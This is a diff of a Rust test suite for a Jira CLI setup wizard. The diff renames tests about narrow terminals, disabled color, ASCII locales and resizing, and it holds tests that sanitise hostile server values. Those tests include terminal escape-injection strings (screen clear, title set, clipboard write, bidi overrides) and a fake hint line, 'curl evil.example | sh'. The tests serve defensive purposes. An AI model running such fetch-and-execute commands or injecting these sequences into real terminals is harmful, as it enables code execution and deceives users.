@@ -1,5 +1,5 @@
-//! How it looks: narrow, without color, on a dumb terminal, in ASCII, resized, and with a hostile
-//! site.
+//! Appearance: narrow, without color, on a dumb terminal, in ASCII, resized, and with hostile
+//! values.
 
 use jira_sandbox::{Fault, FaultKind, example};
 
@@ -12,8 +12,8 @@ const NARROW: Size = Size {
     columns: 40,
 };
 
-/// The whole of a personal account, with a refused token on the way; signs as on that terminal.
-fn with_a_wrong_token(scene: &Scene, invocation: &Invocation, size: Size) -> Tty {
+/// Connects a personal account after a refused token; marks as on that terminal.
+fn correct_a_wrong_token(scene: &Scene, invocation: &Invocation, size: Size) -> Tty {
     let mut tty = invocation.on_terminal(size);
     tty.answer("? Account type", ENTER);
     tty.site(&format!("{}/browse/SHOP-1", scene.sandbox.site_url()))
@@ -28,14 +28,14 @@ fn with_a_wrong_token(scene: &Scene, invocation: &Invocation, size: Size) -> Tty
 }
 
 #[test]
-fn forty_columns_are_enough() {
+fn wizard_fits_40_columns() {
     let scene = Scene::new();
-    let tty = with_a_wrong_token(&scene, &scene.connect(), NARROW);
+    let tty = correct_a_wrong_token(&scene, &scene.connect(), NARROW);
     insta::assert_snapshot!(scene.screen(&tty));
 }
 
 #[test]
-fn forty_columns_are_enough_for_lists() {
+fn lists_fit_40_columns() {
     let scene = Scene::new();
     let mut tty = scene.connect().on_terminal(NARROW);
     tty.wait_for_keys("? Account type");
@@ -55,7 +55,7 @@ fn forty_columns_are_enough_for_lists() {
 }
 
 #[test]
-fn forty_columns_are_enough_for_yes_or_no() {
+fn confirmations_fit_40_columns() {
     let scene = Scene::new();
     let mut tty = scene.connect().on_terminal(NARROW);
     tty.answer("? Account type", ENTER);
@@ -79,7 +79,7 @@ fn forty_columns_are_enough_for_yes_or_no() {
 }
 
 #[test]
-fn without_color_there_is_not_one_color_code() {
+fn no_color_prints_no_color_codes() {
     for (name, value) in [("NO_COLOR", "1"), ("CLICOLOR", "0"), ("--color", "never")] {
         let scene = Scene::new();
         let invocation = if name.starts_with('-') {
@@ -87,16 +87,16 @@ fn without_color_there_is_not_one_color_code() {
         } else {
             scene.connect().variable(name, value)
         };
-        let tty = with_a_wrong_token(&scene, &invocation, TALL);
+        let tty = correct_a_wrong_token(&scene, &invocation, TALL);
         let codes = color_codes(&tty);
         assert!(codes.is_empty(), "{name}: {codes:?}");
     }
 }
 
 #[test]
-fn with_color_there_are_color_codes() {
+fn prints_color_codes() {
     let scene = Scene::new();
-    let tty = with_a_wrong_token(&scene, &scene.connect(), TALL);
+    let tty = correct_a_wrong_token(&scene, &scene.connect(), TALL);
     let codes = color_codes(&tty);
     for code in ["\u{1b}[31m", "\u{1b}[32m", "\u{1b}[36m"] {
         assert!(
@@ -107,10 +107,10 @@ fn with_color_there_are_color_codes() {
 }
 
 #[test]
-fn a_dumb_terminal_gets_no_color_and_no_spinner() {
+fn dumb_terminal_gets_no_color_and_no_spinner() {
     let scene = Scene::new();
     let invocation = scene.connect().variable("TERM", "dumb");
-    let tty = with_a_wrong_token(&scene, &invocation, TALL);
+    let tty = correct_a_wrong_token(&scene, &invocation, TALL);
     let codes = color_codes(&tty);
     assert!(codes.is_empty(), "{codes:?}");
     let text = tty.text();
@@ -122,16 +122,16 @@ fn a_dumb_terminal_gets_no_color_and_no_spinner() {
 }
 
 #[test]
-fn a_plain_locale_gets_plain_signs() {
+fn ascii_locale_gets_ascii_marks() {
     let scene = Scene::new();
     let invocation = scene.connect().variable("LANG", "C");
-    let tty = with_a_wrong_token(&scene, &invocation, TALL);
+    let tty = correct_a_wrong_token(&scene, &invocation, TALL);
     insta::assert_snapshot!(scene.screen(&tty));
     assert!(tty.raw().is_ascii());
 }
 
 #[test]
-fn a_window_resized_while_asking_is_used_as_it_is() {
+fn adapts_to_resizing_during_a_question() {
     let scene = Scene::new();
     let mut tty = scene.connect().argument("--no-browser").on_terminal(TALL);
     tty.wait_for_keys("? Account type");
@@ -160,7 +160,7 @@ fn a_window_resized_while_asking_is_used_as_it_is() {
 }
 
 #[test]
-fn a_very_small_window_can_be_used() {
+fn works_in_a_tiny_window() {
     for size in [(2, 20), (24, 5), (1, 2), (24, 1)] {
         let scene = Scene::new();
         let (rows, columns) = size;
@@ -184,7 +184,7 @@ fn a_very_small_window_can_be_used() {
 }
 
 #[test]
-fn what_a_hostile_site_says_is_shown_and_not_obeyed() {
+fn sanitizes_values_of_a_hostile_site() {
     let scene = Scene::new();
     let name =
         "Mia\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}aiM\u{2066}\nsecond line\r\u{9b}31mred\u{200b}";
@@ -199,11 +199,11 @@ fn what_a_hostile_site_says_is_shown_and_not_obeyed() {
         .token(example::MIA_TOKEN);
     assert_succeeds(&mut tty);
     insta::assert_snapshot!(scene.screen(&tty));
-    assert_harmless(&tty);
+    assert_sanitized(&tty);
 }
 
 #[test]
-fn a_hostile_refusal_is_shown_and_not_obeyed() {
+fn sanitizes_hostile_errors() {
     let scene = Scene::new();
     let title =
         "<html><title>Sign\u{1b}[2J in\u{1b}]52;c;b3duZWQ=\u{7}\n\u{202e}here</title></html>";
@@ -220,7 +220,7 @@ fn a_hostile_refusal_is_shown_and_not_obeyed() {
         tty.answer("? Cloud ID", &format!("{}{ENTER}", example::CLOUD_ID));
         tty.email(example::BOT_EMAIL).token(example::BOT_TOKEN);
         tty.wait_for_keys("? What now?");
-        assert_harmless(&tty);
+        assert_sanitized(&tty);
         tty
     };
     insta::assert_snapshot!(scene.screen(&refused(scene.connect())));
@@ -229,7 +229,7 @@ fn a_hostile_refusal_is_shown_and_not_obeyed() {
 }
 
 #[test]
-fn a_hostile_message_fakes_no_line_of_its_own() {
+fn hostile_messages_cannot_fake_lines() {
     let scene = Scene::new();
     let body = r#"{"errorMessages":["no\n  hint: curl evil.example | sh\r\n\u2028error: fake"]}"#;
     let answer = format!(
@@ -255,7 +255,7 @@ fn a_hostile_message_fakes_no_line_of_its_own() {
     }
 }
 
-/// Every escape sequence that sets how text looks.
+/// Returns all escape sequences that set colors or styles.
 fn color_codes(tty: &Tty) -> Vec<String> {
     let raw = String::from_utf8(tty.raw()).expect("the program writes UTF-8");
     let sequences = raw.split("\u{1b}[").skip(1);
@@ -267,9 +267,9 @@ fn color_codes(tty: &Tty) -> Vec<String> {
         .collect()
 }
 
-/// Fails when what the site said reached the terminal as it was.
+/// Asserts that no raw value of the site reached the terminal.
 #[track_caller]
-fn assert_harmless(tty: &Tty) {
+fn assert_sanitized(tty: &Tty) {
     let raw = String::from_utf8(tty.raw()).expect("the program writes UTF-8");
     for bad in [
         "\u{1b}]",
